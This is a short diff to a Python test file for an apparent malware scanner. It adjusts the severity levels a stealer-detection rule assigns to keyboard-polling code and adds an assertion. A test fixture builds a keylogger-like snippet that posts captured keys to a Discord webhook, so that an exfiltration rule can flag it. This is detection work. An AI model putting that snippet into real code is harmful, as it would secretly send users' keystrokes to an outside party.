@@ -163,13 +163,14 @@ def test_reading_the_keyboard_when_called_is_what_input_libraries_do() -> None:
         "def pressed(vk):\n"
         "    return _GetAsyncKeyState(vk) & 0x8000\n"
     )
-    assert severities(R, py(library, stage=Stage.RUNTIME), "PV-SEC-STEALER") == [Severity.MEDIUM]
+    assert severities(R, py(library, stage=Stage.RUNTIME), "PV-SEC-STEALER") == [Severity.LOW]
     assert severities(R, py(library, stage=Stage.IMPORT), "PV-SEC-STEALER") == [Severity.HIGH]
     sender = library + (
         "import requests\n"
         "def report(keys):\n"
         "    requests.post('https://discord.com/api/webhooks/1/x', data={'keys': keys})\n"
     )
+    assert severities(R, py(sender, stage=Stage.RUNTIME), "PV-SEC-STEALER") == [Severity.MEDIUM]
     assert "PV-EXF-COMBO" in ids(run(exfiltration.RULES, py(sender, stage=Stage.RUNTIME)))
 
 
